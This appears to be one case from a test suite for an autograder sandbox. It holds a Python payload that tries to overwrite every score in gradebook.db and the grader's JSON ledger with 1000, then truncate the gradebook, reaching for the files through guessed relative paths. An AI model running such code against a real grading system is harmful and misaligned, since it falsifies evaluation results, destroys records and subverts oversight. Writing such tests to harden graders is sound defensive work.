"""Write scores straight into ``gradebook.db`` (and the grader's ledger), by absolute
and relative paths, then try to truncate the gradebook.

Changes nothing: the gradebook and the ledger do not exist in the sandbox; the
gradebook check after the batch would catch a change on platforms without it.
"""

CATEGORY = "gradebook and file access"
REQUIRES = ("filesystem",)

APPEND = [
    '''import glob
import json
import sqlite3

for path in [ATTACK["gradebook"], "../../../gradebook.db", "../../gradebook.db", "gradebook.db"]:
    try:
        con = sqlite3.connect(f"file:{path}?mode=rw", uri=True)
        con.execute("UPDATE grade SET auto_score = 1000, manual_score = 1000")
        con.commit()
        con.close()
        print("wrote", path)
    except Exception as exc:
        print(path, type(exc).__name__, exc)
for path in glob.glob(ATTACK["ledger"] + "/**/*.json", recursive=True):
    try:
        with open(path) as fh:
            data = json.load(fh)
        for rec in data["scores"].values():
            rec["score"] = 1000
        with open(path, "w") as fh:
            json.dump(data, fh)
    except Exception as exc:
        print(path, exc)
try:
    open(ATTACK["gradebook"], "wb").close()
except Exception as exc:
    print("truncate:", type(exc).__name__)
''',
]
